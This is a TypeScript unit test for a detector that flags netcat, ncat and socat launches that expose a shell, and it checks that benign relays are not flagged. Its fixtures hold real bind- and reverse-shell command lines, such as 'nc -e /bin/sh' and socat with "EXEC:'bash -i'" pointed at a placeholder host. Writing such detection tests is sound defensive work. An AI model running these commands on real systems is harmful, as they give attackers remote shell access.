import assert from 'node:assert/strict';
import { it } from 'node:test';
import { seen } from '../process-fixture.ts';
import warning from './shell-handed-out.ts';

const run = (program: string, ...words: string[]) =>
  seen(warning, { executable: `/usr/bin/${program}`, commandLine: [program, ...words] });

it('is a tool for connections that starts a shell', () => {
  assert.deepEqual(run('nc.traditional', '-lp', '7', '-e', '/bin/sh'), ['danger /bin/sh']);
  assert.deepEqual(run('ncat', '--sh-exec=bash', 'x', '1'), ['danger --sh-exec=bash']);
  const socat = "EXEC:'bash -i',pty,stderr";
  assert.deepEqual(run('socat', 'TCP:x:1', socat), [`danger ${socat}`]);
  assert.deepEqual(run('socat1', 'TCP-L:1,fork', 'SYSTEM:/bin/bash'), ['danger SYSTEM:/bin/bash']);
});

it('is not one that passes data, nor another program that names a shell', () => {
  assert.deepEqual(run('socat', 'TCP-LISTEN:80,fork', 'UNIX:/run/x.sock'), []);
  assert.deepEqual(run('nc.openbsd', '-l', '7777'), []);
  assert.deepEqual(run('socat', 'TCP-L:1', 'EXEC:/usr/bin/report'), []);
  assert.deepEqual(run('env', 'bash'), []);
});
